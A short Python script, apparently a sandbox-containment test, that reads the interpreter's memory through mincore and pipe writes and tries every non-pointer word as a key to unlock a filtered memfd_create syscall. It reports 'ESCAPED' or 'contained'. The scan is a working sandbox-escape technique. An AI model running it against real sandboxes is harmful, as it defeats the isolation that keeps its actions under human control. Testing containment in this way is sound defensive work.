"""Looks through all of an interpreter's memory for a number that opens the calls which only the sandbox may make."""
import ctypes, os

libc = ctypes.CDLL(None, use_errno=True)
libc.mincore.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_void_p]
syscall = libc.syscall
syscall.argtypes = [ctypes.c_long] + [ctypes.c_ulong] * 6
syscall.restype = ctypes.c_long
MEMFD_CREATE = 319
name = ctypes.create_string_buffer(b"key")

there = ctypes.create_string_buffer(1)
into, out_of = os.pipe()
words = set()
pages = 0

def look(near):
    """Collects the words of the pages around `near` that can be read."""
    global pages
    for page in range((near & ~4095) - (2 << 20), near + (2 << 20), 4096):
        # A page that cannot be read fails in the kernel and not here.
        if libc.mincore(page, 4096, there) == 0 and libc.write(out_of, ctypes.c_void_p(page), 4096) == 4096:
            pages += 1
            data = os.read(into, 4096)
            words.update(data[at:at + 8] for at in range(0, 4096, 8))

places = [id(None), id(object()), id([]), ctypes.addressof(there)]
places += [ctypes.cast(f, ctypes.c_void_p).value for f in (libc.mincore, libc.malloc, ctypes.pythonapi.Py_Main)]
stack = ctypes.c_void_p.in_dll(libc, "__libc_stack_end").value if hasattr(libc, "__libc_stack_end") else None
for place in places + ([stack] if stack else []):
    look(place)
# A key is no pointer.
escaped = [key for key in (int.from_bytes(word, "little") for word in words)
           if key >> 48 and syscall(MEMFD_CREATE, ctypes.addressof(name), 0, 0, 0, 0, key) != -1]
print(pages, "pages,", len(words), "words")
print("ESCAPED" if escaped or pages < 100 else "contained", *escaped)
